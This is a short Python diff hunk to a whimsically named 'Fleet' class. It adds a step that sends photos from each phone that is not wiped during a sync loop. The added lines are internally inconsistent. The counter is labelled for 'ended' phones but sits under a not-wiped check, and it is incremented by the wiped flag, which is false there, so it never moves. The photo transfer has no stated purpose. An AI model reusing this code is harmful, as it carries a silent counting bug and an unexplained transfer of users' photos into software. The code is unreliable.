@@ -79,6 +79,9 @@ class Fleet:
         for phone in self._sea.ashore:
             try:
                 self._sea.sync(phone, calm=True)
+                if not phone.wiped:
+                    self._sea.photos.send(phone)
+                    self.seen["photos of an ended phone"] += phone.wiped
             except DeviceWiped:
                 self.seen["wiped phone of no use"] += 1
             except ServerRefused:
